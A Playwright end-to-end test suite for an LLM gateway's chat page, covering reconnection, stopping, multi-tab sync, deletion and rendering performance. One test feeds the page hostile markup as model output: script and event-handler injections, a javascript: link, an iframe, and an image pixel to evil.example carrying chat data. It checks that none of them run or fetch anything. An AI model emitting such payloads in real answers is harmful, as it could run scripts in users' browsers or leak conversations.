"""The chat page against a real gateway process, with scripted providers and the demo model."""

import asyncio
import json
import re
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager
from urllib.parse import urlsplit

import pytest
import pytest_asyncio
from playwright.async_api import BrowserContext, Page, expect

from browser.chat_page import (
    AT_END,
    END_TIMEOUT_MS,
    Frames,
    answers,
    ask,
    compose,
    figures,
    new_chat,
    ready,
    until,
    until_true,
    use_key,
)
from harness.accounts import PASSWORD, member
from harness.dialects import closing, opening, token
from harness.gateway import SERVER, Gateway, free_port, provider_entry
from harness.providers import Exchange, ScriptedProvider
from harness.relay import Relay, relay_before

pytestmark = [pytest.mark.needs("chromium", "web"), pytest.mark.asyncio(loop_scope="module")]

MODEL = "m-openai"
LOST = ("Failed to load resource", "WebSocket connection")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def gateway(
    tmp_path_factory: pytest.TempPathFactory, provider: ScriptedProvider
) -> AsyncIterator[Gateway]:
    running = Gateway(
        tmp_path_factory.mktemp("chat"),
        server=SERVER,
        providers=[provider_entry("openai", provider.url, streams_max=1)],
        tables={
            "limits": {"requests_per_minute": 0, "guest_connections_per_minute": 0},
            "accounts": {"signup": "open"},
            "billing": {"signup_credit": "5.00"},
        },
    )
    await running.start()
    await running.administer("prices", "set", MODEL, "--input", "1", "--output", "2")
    try:
        yield running
        await running.stop()
    finally:
        await running.kill()


class Teller:
    """A provider's script that says what the test gives it, and ends when it is told to."""

    def __init__(self, provider: ScriptedProvider) -> None:
        self.prompt = provider.play(self)
        self.exchange: Exchange | None = None
        self._pieces: asyncio.Queue[str | None] = asyncio.Queue()

    async def __call__(self, exchange: Exchange) -> None:
        self.exchange = exchange
        exchange.head()
        for block in opening("openai"):
            exchange.chunk(block)
        count = 0
        while (piece := await self._next(exchange)) is not None:
            count += 1
            exchange.chunk(token("openai", piece))
        if exchange.gone.is_set():
            return
        for block in closing("openai", count):
            exchange.chunk(block)
        exchange.end()

    async def _next(self, exchange: Exchange) -> str | None:
        """Return the next piece; None at the end, or when the gateway has hung up."""
        waiting = [
            asyncio.ensure_future(self._pieces.get()),
            asyncio.ensure_future(exchange.gone.wait()),
        ]
        await asyncio.wait(waiting, return_when=asyncio.FIRST_COMPLETED)
        waiting[1].cancel()
        if not waiting[0].done():
            waiting[0].cancel()
            return None
        return waiting[0].result()  # type: ignore[no-any-return]

    def say(self, *pieces: str) -> None:
        for piece in pieces:
            self._pieces.put_nowait(piece)

    def end(self) -> None:
        self._pieces.put_nowait(None)

    async def until_gone(self) -> None:
        """Wait until nobody reads the answer at the provider any more."""
        assert self.exchange is not None
        await self.exchange.until_gone()


@pytest.fixture
def teller(provider: ScriptedProvider) -> Iterator[Teller]:
    """One answer of the provider; it ends with its test, so that the next finds an empty line."""
    telling = Teller(provider)
    yield telling
    telling.end()


@asynccontextmanager
async def with_key(context: BrowserContext, gateway: Gateway, url: str = "") -> AsyncIterator[Page]:
    """Open the page in a tab that has the key already."""
    page = await context.new_page()
    page.set_default_timeout(15_000)
    script = f"sessionStorage.setItem('tokenferry.key', {json.dumps(gateway.key)})"
    await page.add_init_script(script)
    await page.goto(url or gateway.url)
    await ready(page)
    yield page
    await page.close()


async def choose_model(page: Page, name: str) -> None:
    await page.click("#model")
    await page.get_by_role("option", name=name).click()
    await expect(page.locator("#model")).to_contain_text(name)


async def begin(page: Page, teller: Teller, *pieces: str, shown: str = "") -> None:
    """Ask for the told answer, and wait for its beginning."""
    await choose_model(page, MODEL)
    await ask(page, f"Tell me: {teller.prompt}")
    teller.say(*pieces)
    await expect(answers(page).last).to_contain_text(shown or pieces[-1].strip())


async def server_text(gateway: Gateway) -> str:
    """Return the text of the latest stream as the server has it."""
    found = (await gateway.get("/v1/streams?limit=1", gateway.key)).json["data"][0]["id"]
    stream = (await gateway.get(f"/v1/streams/{found}", gateway.key)).json
    return str(stream["completion"]["choices"][0]["message"]["content"])


async def test_first_visit_as_a_guest_in_korean(open_page, gateway):
    """Works at once; one Enter of an input method sends once; token by token; figures below."""
    page = await open_page(gateway.url, language="ko")
    frames = Frames(page)
    await ready(page)
    await expect(page.locator("#model")).to_contain_text("demo")
    await expect(page.locator("#model")).to_contain_text("$1 / $5")
    await expect(page.locator(".visitor .who")).to_have_text("게스트 · 데모 모델")
    await page.focus("#message")
    await compose(page, "안녕하세요")
    await expect(page.locator("#stop")).to_be_visible()
    await expect(answers(page)).to_contain_text("데모 시")
    early = len(await answers(page).text_content() or "")
    await expect(figures(page)).to_have_text(
        re.compile(r"^토큰 \d+개 · \$0\.00\d+ · 첫 토큰 [\d.]+(ms|초) · 전체 [\d.]+초 · demo$"),
        timeout=END_TIMEOUT_MS,
    )
    assert early < len(await answers(page).text_content() or "")
    (create,) = frames.of("create")
    assert create["request"]["messages"] == [{"role": "user", "content": "안녕하세요"}]
    assert create["request"]["model"] == "demo"
    (done,) = frames.of("done")
    assert f"토큰 {done['usage']['completion_tokens']}개" in (
        await figures(page).text_content() or ""
    )
    text = "".join(chunk["choices"][0]["delta"]["content"] for chunk in frames.of("chunk"))
    assert "**데모 시뮬레이터**" in text
    await expect(answers(page).locator("strong").first).to_have_text("데모 시뮬레이터")
    await expect(answers(page).locator("blockquote")).to_have_text("안녕하세요")
    await expect(page.locator(".question")).to_have_count(1)
    await expect(page.locator("#message")).to_have_value("")

    # What a guest has is another guest's secret, and the page's reload finds it again.
    cookies = await page.context.cookies(f"{gateway.url}/api/chat")
    (cookie,) = [each for each in cookies if each["name"] == "tokenferry_guest"]
    assert cookie["httpOnly"]
    assert cookie["sameSite"] == "Strict"
    await page.reload()
    await expect(answers(page)).to_contain_text("데모 시뮬레이터")
    await expect(figures(page)).to_contain_text("demo")


async def test_a_reload_in_the_middle_of_an_answer(open_page, gateway, teller):
    """Check 1: the final text is the server's, and only one answer was generated."""
    context = (await open_page("about:blank")).context
    async with with_key(context, gateway) as page:
        frames = Frames(page)
        await begin(page, teller, "처음 ", "**굵게(강조)**은 ", shown="굵게(강조)은")
        await page.reload()
        await expect(answers(page)).to_contain_text("굵게(강조)은")
        teller.say("끝", ".")
        teller.end()
        await expect(figures(page)).to_contain_text("4 tokens · $0.000019", timeout=END_TIMEOUT_MS)
        assert await server_text(gateway) == "처음 **굵게(강조)**은 끝."
        assert await answers(page).text_content() == "처음 굵게(강조)은 끝."
        (resume,) = frames.of("resume")
        assert resume["after"] > 0, "it goes on from what it had"
        assert len(frames.of("create")) == 1


def page_url(relay: Relay) -> str:
    """Return where the page is behind a relay."""
    return f"http://{urlsplit(relay.url).netloc}"


CUT_S = 10
SHOWN_MS_MAX = 1_000
RECONNECTING = "Reconnecting, the answer continues on the server"
# What the page says and when, and what it is told, by the page's own clock: how busy the machine is
# counts for both. Dice that fall so, the fifth attempt to connect comes 10.4 s after the cut.
NOTE_STATES = """
  window.notes = [];
  const note = (what) => window.notes.push([what, performance.now()]);
  window.WebSocket = class extends WebSocket {
    constructor(...given) {
      super(...given);
      this.addEventListener("close", () => note("closed"));
    }
  };
  addEventListener("offline", () => note("offline"));
  let said;
  new MutationObserver(() => {
    const words = document.querySelector(".phase")?.textContent;
    if (words !== said) note((said = words));
  }).observe(document, { childList: true, characterData: true, subtree: true });
  Math.random = () => 0.64;
"""


async def test_a_network_that_comes_back(open_page, gateway, teller, watch):
    """Check 2: cut for ten seconds it says so, catches up, and nothing is missing.

    So it does when the network is away and no connection is told so. Then Stop works (check 4).
    """
    watch.expected = LOST
    context = (await open_page("about:blank")).context
    await context.add_init_script(NOTE_STATES)
    async with relay_before(gateway) as relay, with_key(context, gateway, page_url(relay)) as page:
        frames = Frames(page)
        await begin(page, teller, "one ", "two ")
        relay.redirect(free_port())
        relay.cut()
        over = asyncio.get_running_loop().time() + CUT_S
        await says_that_it_reconnects(page, "closed", "Reconnecting in")
        teller.say("three ", "four ")
        await asyncio.sleep(over - asyncio.get_running_loop().time())
        relay.redirect(gateway.port)
        await has_caught_up(page, "one two three four ")

        relay.silent = True
        await context.set_offline(True)
        await says_that_it_reconnects(page, "offline", "Offline")
        teller.say("five ")
        await until_true(lambda: relay.swallowed)
        relay.silent = False
        await context.set_offline(False)
        await has_caught_up(page, "one two three four five ")
        assert [frame["after"] > 0 for frame in frames.of("resume")] == [True, True]
        assert len(frames.of("create")) == 1
        await stops(page, gateway, teller)


async def says_that_it_reconnects(page: Page, event: str, words: str) -> None:
    """See that it is said within a second of an event, and what is said of the connection."""
    await expect(page.locator(".phase")).to_have_text(RECONNECTING)
    await expect(page.locator(".connection")).to_contain_text(words)
    notes: list[tuple[str, float]] = await page.evaluate("window.notes")
    at_ms = next(ms for what, ms in notes if what == event)
    said_ms = next(ms for what, ms in notes if what == RECONNECTING and ms >= at_ms)
    assert said_ms - at_ms <= SHOWN_MS_MAX


async def has_caught_up(page: Page, text: str) -> None:
    await expect(answers(page)).to_have_text(text, timeout=END_TIMEOUT_MS)
    await expect(page.locator(".phase")).to_have_text("Caught up")
    await expect(page.locator(".connection")).to_have_text("Connected")


async def stops(page: Page, gateway: Gateway, teller: Teller) -> None:
    await page.click("#stop")
    note = page.locator(".answer .note")
    await expect(note).to_have_text("Stopped, billed for what was produced")
    await expect(figures(page)).to_contain_text("· $0.0000")
    await teller.until_gone()
    shown = await answers(page).text_content()
    assert shown == await server_text(gateway)
    teller.say("never")
    await page.wait_for_timeout(300)
    assert await answers(page).text_content() == shown
    await expect(page.locator("#send")).to_be_visible()


# How often a page keeps how far an answer is; see web/src/chat/answers.ts.
KEEP_MS = 500
NOTHING_SAVED = """() => {
  const { put } = IDBObjectStore.prototype;
  IDBObjectStore.prototype.put = function (value, ...key) {
    return put.call(this, this.name === "turns" ? { ...value, saved: null } : value, ...key);
  };
}"""
KEPT_TURNS = """new Promise((resolve) => {
  indexedDB.open("tokenferry-chat").onsuccess = ({ target }) => {
    const count = target.result.transaction("turns").objectStore("turns").count();
    count.onsuccess = () => resolve(count.result);
  };
})"""


async def test_a_second_tab_follows_and_its_stop_stops_the_provider(open_page, gateway, teller):
    """Check 3, and the link for another device."""
    context = (await open_page("about:blank")).context
    async with with_key(context, gateway) as first, with_key(context, gateway) as second:
        await begin(first, teller, "live ", "from ")
        await second.locator(".entry .name").click()
        await expect(answers(second)).to_have_text("live from ")
        teller.say("here ")
        for page in (first, second):
            await expect(answers(page)).to_have_text("live from here ")
        await second.click("#stop")
        await teller.until_gone()
        for page in (first, second):
            await expect(page.locator(".answer .note")).to_contain_text("Stopped")
        link = await first.get_by_role("link", name="Link for another device").get_attribute("href")
        assert link is not None
        assert re.fullmatch(r"#follow=st_\w+", link)

    async with open_elsewhere(open_page, gateway, link) as device:
        await expect(answers(device)).to_have_text("live from here ")
        await expect(device.locator(".answer .note")).to_contain_text("Stopped")
        assert gateway.key not in device.url


async def test_two_tabs_of_a_first_visit_are_one_guest(open_page, gateway):
    """Both ask before the server has marked the browser; the second waits for the first."""
    first = await open_page(gateway.url)
    second = await first.context.new_page()
    await second.goto(gateway.url)
    cookies = []

    async def slowly(route):
        cookies.append((await route.request.all_headers()).get("cookie", ""))
        await asyncio.sleep(0.5)
        await route.continue_()

    await first.context.route("**/api/chat/ticket", slowly)
    for page in (first, second):
        await ready(page)
        await page.fill("#message", "안녕")
    await asyncio.gather(*(page.press("#message", "Enter") for page in (first, second)))
    for page in (first, second):
        await expect(answers(page)).to_contain_text("데모 시")
    assert [bool(cookie) for cookie in cookies] == [False, True]


async def test_a_conversation_that_is_deleted_takes_its_answer_along(open_page, gateway, teller):
    """It is stopped wherever it comes, and nothing of it stays in the browser."""
    context = (await open_page("about:blank")).context
    async with with_key(context, gateway) as first, with_key(context, gateway) as second:
        await begin(first, teller, "secret ")
        await delete_the_conversation(second)
        await teller.until_gone()
        for page in (first, second):
            await expect(page.locator(".entry")).to_have_count(0)
            await expect(page.locator(".turn")).to_have_count(0)
        await first.wait_for_timeout(2 * KEEP_MS)
        assert await first.evaluate(KEPT_TURNS) == 0


async def test_so_does_one_that_no_tab_shows(open_page, gateway, teller):
    context = (await open_page("about:blank")).context
    async with with_key(context, gateway) as second:
        async with with_key(context, gateway) as first:
            await begin(first, teller, "secret ")
        await delete_the_conversation(second)
        await teller.until_gone()
        assert await second.evaluate(KEPT_TURNS) == 0


async def test_so_does_one_whose_name_was_not_kept_in_time(open_page, gateway, provider, teller):
    """A tab can be closed after an answer has begun, and before that is written."""
    context = (await open_page("about:blank")).context
    async with with_key(context, gateway) as second:
        async with with_key(context, gateway) as first:
            await first.evaluate(NOTHING_SAVED)
            await begin(first, teller, "secret ")
        await delete_the_conversation(second)
        await teller.until_gone()
        assert await second.evaluate(KEPT_TURNS) == 0
    assert len(provider.exchanges(teller.prompt)) == 1


async def test_a_stop_is_done_when_the_server_can_be_reached_again(
    open_page, gateway, provider, teller, watch
):
    """Also where a tab was closed in the moment of asking, and the next one is left meanwhile."""
    watch.expected = LOST
    context = (await open_page("about:blank")).context
    async with with_key(context, gateway) as second:
        async with with_key(context, gateway) as first:
            await first.evaluate(NOTHING_SAVED)
            await begin(first, teller, "so far ")
        await second.route("**/stream/tickets", lambda route: route.abort())
        await second.locator(".entry .name").click()
        await second.click("#stop")
        await expect(second.locator(".phase")).to_have_text(NOT_STOPPED_YET)
        await second.reload()
        await expect(second.locator(".phase")).to_have_text(NOT_STOPPED_YET)
        await expect(second.locator(".answer .note")).to_have_count(0)
        await second.unroute_all()
        await second.evaluate("dispatchEvent(new Event('online'))")
        await teller.until_gone()
        await expect(second.locator(".answer .note")).to_contain_text("Stopped")
        await expect(answers(second)).to_have_text("so far ")
    assert len(provider.exchanges(teller.prompt)) == 1


# The second once the first try to reach the server has failed.
NOT_STOPPED_YET = re.compile("Stopping…|Reconnecting")


async def delete_the_conversation(page: Page) -> None:
    await page.locator(".entry").hover()
    await page.locator(".entry").get_by_role("button", name="Delete").click()
    await page.locator("dialog").get_by_role("button", name="Delete").click()


@asynccontextmanager
async def open_elsewhere(open_page: Callable, gateway: Gateway, link: str) -> AsyncIterator[Page]:
    context = (await open_page("about:blank")).context
    async with with_key(context, gateway, f"{gateway.url}/{link}") as page:
        yield page


async def test_the_line_is_told_in_words_and_rarely_aloud(open_page, gateway, provider, teller):
    """Waiting in the gateway's line; at most six announcements an answer."""
    context = (await open_page("about:blank")).context
    ahead = Teller(provider)
    async with with_key(context, gateway) as page:
        await page.evaluate(
            """() => {
              window.said = [];
              const status = document.querySelector("#app > [role=status]");
              new MutationObserver(() => window.said.push(status.textContent)).observe(status, {
                childList: true, characterData: true, subtree: true,
              });
            }"""
        )
        await begin(page, ahead, "first ")
        async with with_key(context, gateway) as other:
            await choose_model(other, MODEL)
            await ask(other, f"And then {teller.prompt}")
            await expect(other.locator(".phase")).to_contain_text("Waiting · 0 ahead")
            ahead.end()
            teller.say("second ")
            await expect(answers(other)).to_have_text("second ")
            teller.end()
            await expect(figures(other)).to_contain_text("1 token ·")
        await expect(figures(page)).to_contain_text("1 token ·")
        said = await page.evaluate("window.said")
        assert 1 <= len(said) <= 6
        assert said[-1] == "The answer is complete."
        assert await page.locator("#transcript").get_attribute("aria-live") is None


async def test_scrolling_up_while_an_answer_comes(open_page, gateway, teller):
    """Check 6."""
    context = (await open_page("about:blank")).context
    async with with_key(context, gateway) as page:
        await begin(page, teller, *(f"paragraph {n}\n\n" for n in range(60)))
        await until(page, AT_END)
        await page.hover("#transcript")
        await page.mouse.wheel(0, -40)
        await expect(page.locator("#latest")).to_be_visible()
        before = await page.evaluate("document.getElementById('transcript').scrollTop")
        teller.say(*(f"more {n}\n\n" for n in range(20)))
        await expect(answers(page)).to_contain_text("more 19")
        assert await page.evaluate("document.getElementById('transcript').scrollTop") == before
        await page.click("#latest")
        await until(page, AT_END)
        teller.say(*(f"again {n}\n\n" for n in range(20)))
        await expect(answers(page)).to_contain_text("again 19")
        await until(page, AT_END)
        teller.end()
        await expect(page.locator("#send")).to_be_visible()


async def test_a_long_answer_with_code(browser, open_page, gateway, teller):
    """Check 7: 100 kB at 200 tokens a second; no task above 100 ms, no coloured line turns plain.

    The pieces are far longer than tokens are, so that the page has forty times as much to do in a
    second, and the test is over soon. A task's time is what its thread has had of a processor
    (`tdur` in a trace) and not what has passed meanwhile (`longtask`), so that it does not depend
    on what else the machine does. Playwright asks the page nothing meanwhile: what it looks for in
    a page of this length takes a third of a second.
    """
    context = (await open_page("about:blank")).context
    async with with_key(context, gateway) as page:
        await begin(page, teller, CODE_HEAD, CODE_PIECE, shown="def function")
        await expect(page.locator(".code-block .line > span").first).to_be_visible()
        code = [CODE_PIECE] * 300
        text = [TEXT_PIECE] * 405
        assert sum(map(len, code + text)) > 100_000
        await page.evaluate(WATCH_LINES, 2 * len(code))
        await browser.start_tracing(page=page, categories=["toplevel"])
        clock = asyncio.get_running_loop().time
        begun = clock()
        for n, piece in enumerate([*code, "```\n\n", *text]):
            teller.say(piece)
            await asyncio.sleep(begun + n / TOKENS_PER_S - clock())
        teller.end()
        async with asyncio.timeout(END_TIMEOUT_MS / 1000):
            await page.evaluate("window.finished")
        tasks_ms = thread_times_ms(await browser.stop_tracing())
        print("longest tasks (ms):", sorted(tasks_ms)[-5:])
        assert sum(tasks_ms) > TASK_MS_MAX, "thread times were traced"
        assert max(tasks_ms) <= TASK_MS_MAX
        seen = await page.evaluate("window.lines")
        assert (seen["turnedPlain"], seen["removed"]) == (0, 0)
        # A line that has its colours is left alone: all of it drawn once and a little more.
        assert seen["drawn"] < 3 * seen["coloured"]
        # Of what is settled no element is ever made again.
        assert await page.evaluate("window.firstLine.isConnected")
        # Opened again it comes a slice at a time, and all of it.
        length = "document.querySelector('.answer > .text')?.textContent.length"
        whole = await page.evaluate(length)
        await page.reload()
        await until(page, f"{length} === {whole}")


async def test_a_paragraph_of_marks_that_does_not_end(browser, open_page, gateway, teller):
    """The page's work is bounded, and what has come is shown also when nothing comes after it."""
    context = (await open_page("about:blank")).context
    async with with_key(context, gateway) as page:
        await begin(page, teller, "*a ", shown="*a")
        await browser.start_tracing(page=page, categories=["toplevel"])
        for _ in range(MARKS_PIECES):
            teller.say("*a **b*c " * 2)
            await asyncio.sleep(1 / TOKENS_PER_S)
        teller.say("so far")
        await expect(answers(page)).to_contain_text("so far", timeout=END_TIMEOUT_MS)
        tasks_ms = thread_times_ms(await browser.stop_tracing())
        print("all (ms):", sum(tasks_ms), "longest tasks:", sorted(tasks_ms)[-5:])
        assert sum(tasks_ms) > TASK_MS_MAX, "thread times were traced"
        # Some 30 ms; to read all of it for each piece takes up to 2,600.
        assert max(tasks_ms) < 10 * TASK_MS_MAX
        teller.end()
        await expect(page.locator("#send")).to_be_visible()


MARKS_PIECES = 1_100
TOKENS_PER_S = 200
TASK_MS_MAX = 100
CODE_HEAD = "Here is code.\n\n```python\n"
CODE_PIECE = """def function(value: int) -> list[object]:  # 값을 더합니다
    return [value + 1, "a text", None, f"{value!r} and more of it"]

"""
TEXT_PIECE = """A paragraph with **굵게(강조)**은 `code` and [a link](https://a.example/), so long.

- an item, and what it says
- **another** one

| a | b |
|---|---|
| 1 | `2` |

"""


def thread_times_ms(trace: bytes) -> list[float]:
    """Return what each task of the pages' main threads has had of a processor."""
    events = json.loads(trace)["traceEvents"]
    mains = {
        (event["pid"], event["tid"])
        for event in events
        if event["name"] == "thread_name" and event["args"]["name"] == "CrRendererMain"
    }
    return [
        event.get("tdur", 0) / 1000
        for event in events
        if event["name"].endswith("RunTask") and (event["pid"], event["tid"]) in mains
    ]


WATCH_LINES = """(colouredAtEnd) => {
  const seen = { turnedPlain: 0, removed: 0, coloured: 0, drawn: 0 };
  window.lines = seen;
  window.firstLine = document.querySelector(".code-block .line");
  const known = new WeakSet(document.querySelectorAll(".code-block .line:has(> span)"));
  const look = (line) => {
    const isColoured = line.firstElementChild !== null;
    if (isColoured && !known.has(line)) seen.coloured += 1;
    if (isColoured) known.add(line);
    else if (known.has(line)) seen.turnedPlain += 1;
  };
  // The last of its colours come a moment after the answer's end.
  let finish;
  window.finished = new Promise((resolve) => (finish = resolve));
  const isFinished = () =>
    seen.coloured >= colouredAtEnd && document.querySelector(".answer .figures") !== null;
  new MutationObserver((changes) => {
    for (const change of changes) {
      const line = change.target.closest?.(".line");
      if (line) look(line);
      for (const node of change.removedNodes) {
        if (node.nodeType !== 1) continue;
        const inside = [node, ...node.querySelectorAll(".line")];
        seen.removed += inside.filter((each) => known.has(each)).length;
      }
      for (const node of change.addedNodes) {
        if (node.nodeType === 1 && node.classList.contains("line")) {
          seen.drawn += 1;
          look(node);
        }
      }
    }
    if (isFinished()) finish();
  }).observe(document.querySelector(".turns"), { childList: true, subtree: true });
}"""


async def test_nothing_of_an_answer_is_run_or_fetched(open_page, gateway, teller, watch):
    """Check 8: markup, scripts and remote images of an answer."""
    page = await open_page(gateway.url)
    await ready(page)
    await use_key(page, gateway.key)
    hostile = [
        "<img src=https://evil.example/a.png onerror=alert(1)>",
        "<script>document.title='owned'</script>",
        "![pixel](https://evil.example/pixel.png?chat=secret)",
        "[click](javascript:document.title='owned')",
        '<svg onload="document.title=1"></svg>',
        "```html\n<iframe src=https://evil.example></iframe>\n```",
        "[good](https://good.example/x)",
    ]
    await begin(page, teller, *(f"{text}\n\n" for text in hostile), shown="good")
    teller.end()
    await expect(figures(page)).to_be_visible()
    assert await page.locator(".answer img, .answer script, .answer iframe").count() == 0
    links = page.locator(".answer a[href^=http]")
    assert [await link.get_attribute("href") for link in await links.all()] == [
        "https://evil.example/pixel.png?chat=secret",
        "https://good.example/x",
    ]
    for link in await links.all():
        assert await link.get_attribute("rel") == "noopener noreferrer"
    assert "owned" not in await page.title()
    # `open_page` holds that there was no foreign request and no report of the policy.
    assert not [address for address in watch.addresses if gateway.key in address]


async def test_an_account_uses_the_page_by_its_login(open_page, gateway, teller):
    """A key of the account is made when it is needed; its answers are charged to it."""
    somebody = await member(gateway, "chat@example.com")
    page = await open_page("about:blank")
    await page.goto(gateway.url)
    login = """(body) => fetch("/api/sessions", {
      method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body),
    }).then((response) => response.status)"""
    body = {"email": somebody.email, "password": PASSWORD}
    assert await page.evaluate(login, body) == 201
    await page.reload()
    await expect(page.locator(".visitor .who")).to_have_text(somebody.email)
    assert (await somebody.call("GET", "/api/keys")).json["data"] == []
    await begin(page, teller, "paid ")
    teller.end()
    await expect(figures(page)).to_contain_text("1 token · $0.000013")
    (key,) = (await somebody.call("GET", "/api/keys")).json["data"]
    assert key["name"] == "Chat page"
    async with asyncio.timeout(10):
        # It is booked a moment after the page is told.
        while not (requests := (await somebody.call("GET", "/api/requests")).json["data"]):
            await asyncio.sleep(0.02)
    (request,) = requests
    assert (request["key"], request["cost"]) == (key["public_id"], "0.000013")

    # The login ends while the page is open: the draft stays, and the way back is shown.
    await page.fill("#message", "half a thought")
    await page.evaluate(
        "() => fetch('/api/sessions/current', {method: 'DELETE', body: '{}',"
        " headers: {'Content-Type': 'application/json'}})"
    )
    await page.reload()
    await expect(page.get_by_role("alert")).to_contain_text("Please log in again.")
    await expect(page.locator(".visitor .who")).to_have_text("Guest · demo model")
    await expect(page.locator(".entry")).to_have_count(0)
    assert await page.evaluate(login, body) == 201
    await page.reload()
    await expect(page.locator(".entry")).to_have_count(1)
    await expect(answers(page)).to_have_text("paid ")
    await expect(page.locator("#message")).to_have_value("half a thought")


async def test_a_key_that_is_revoked(open_page, gateway, watch):
    watch.expected = LOST
    page = await open_page(gateway.url)
    await ready(page)
    key = await gateway.create_key("to-be-revoked")
    await use_key(page, key)
    await gateway.revoke_key(key)
    await ask(page, "Anybody?")
    alert = page.get_by_role("alert")
    await expect(alert).to_contain_text("The server does not know this key, or it was revoked.")
    await page.get_by_role("button", name="Change the key").click()
    await page.fill("#key", gateway.key)
    await expect(page.locator(".visitor .who")).to_contain_text(gateway.key.split("_")[1])


# As the operator of a server could have it for all streams.
IMPATIENT = """
  const send = WebSocket.prototype.send;
  WebSocket.prototype.send = function (text) {
    const frame = JSON.parse(text);
    if (frame.type === "create") frame.options = { orphan_timeout_s: 1 };
    send.call(this, JSON.stringify(frame));
  };
"""


async def test_a_tab_that_does_not_come_back_ends_its_answer(open_page, gateway, teller):
    context = (await open_page("about:blank")).context
    await context.add_init_script(IMPATIENT)
    async with with_key(context, gateway) as page:
        await begin(page, teller, "some ")
    await teller.until_gone()


async def test_a_server_that_is_killed_and_comes_back(open_page, gateway, teller, watch):
    watch.expected = LOST
    context = (await open_page("about:blank")).context
    async with with_key(context, gateway) as page:
        await begin(page, teller, "saved ", "part ")
        key = gateway.key
        await gateway.kill()
        await gateway.start()
        gateway.key = key
        alert = page.get_by_role("alert")
        await expect(alert).to_contain_text("The answer was cut off.", timeout=END_TIMEOUT_MS)
        await expect(alert).to_contain_text("Request ID st_")
        assert await server_text(gateway) == await answers(page).text_content() == "saved part "
        await new_chat(page)
        await until_true(lambda: gateway.running)
